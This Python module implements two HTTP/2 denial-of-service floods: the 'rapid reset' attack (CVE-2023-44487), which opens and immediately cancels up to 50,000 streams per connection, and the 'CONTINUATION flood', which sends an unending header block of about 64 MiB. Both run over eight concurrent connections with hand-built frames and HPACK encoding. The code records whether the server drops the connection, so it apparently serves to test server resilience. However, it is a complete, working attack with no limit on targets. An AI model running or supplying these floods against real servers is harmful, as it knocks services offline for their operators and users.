"""Floods of HTTP/2 frames that no client library would send: streams that are reset at once, and heads without an end.

CVE-2023-44487 ("rapid reset") and CERT VU#421644 ("CONTINUATION flood"); the frames are of RFC 9113, section 6.
"""

import select
import socket
import struct
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = struct.pack(">I", 8)
# So many flood at once, and each sends this at most.
CONNECTIONS = 8
STREAMS = 50_000
HEAD_FRAMES = 4_000  # 64 MiB
VALUE_BYTES = 16_000
# A side that does not end the connection takes more, or lets the client wait.
PATIENCE_SECONDS = 10


@dataclass
class Ended:
    """Whether the other side ended the connection, and how many times the client had sent by then."""

    by_the_other_side: bool
    times: int


def flood(address, frames):
    """Floods from several connections at once; `frames` yields what one client sends."""
    with ThreadPoolExecutor(CONNECTIONS) as pool:
        return list(pool.map(lambda _: pour(address, frames()), range(CONNECTIONS)))


def pour(address, frames):
    with socket.create_connection(address, timeout=PATIENCE_SECONDS) as client:
        client.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        times = 0
        for data in frames:
            times += 1
            if not goes_on(client, data):
                return Ended(True, times)
        return Ended(is_ended(client), times)


def goes_on(client, data):
    """Sends, and takes whatever came: false once the other side has ended the connection."""
    try:
        client.sendall(data)
        while select.select([client], [], [], 0)[0]:
            if not client.recv(65536):
                return False
    except TimeoutError:
        return True
    except OSError:
        return False
    return True


def is_ended(client):
    """Whether the other side ends it now that nothing more comes."""
    try:
        while client.recv(65536):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def resets(path):
    """Opens streams, and resets each at once."""
    head = block(path)
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL)


def continuations(path):
    """Begins one head, and goes on with it."""
    yield frame(HEADERS, END_STREAM, 1, block(path))
    # A field of its own in each frame, which is never indexed: "a: aaa…".
    field = b"\x10\x01a\x7f" + integer(VALUE_BYTES - 127) + b"a" * VALUE_BYTES
    for _ in range(HEAD_FRAMES):
        yield frame(CONTINUATION, 0, 1, field)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(path):
    """GET of a path without a credential, in HPACK (RFC 7541): method and scheme are indexed, the others literal."""
    return b"\x82\x86" + literal(4, path.encode()) + literal(1, b"flood.example")


def literal(index, value):
    """A field with an indexed name, never indexed itself."""
    return bytes([0x10 | index, len(value)]) + value


def integer(value):
    """What follows a full prefix (RFC 7541, section 5.1)."""
    out = b""
    while value >= 0x80:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value])
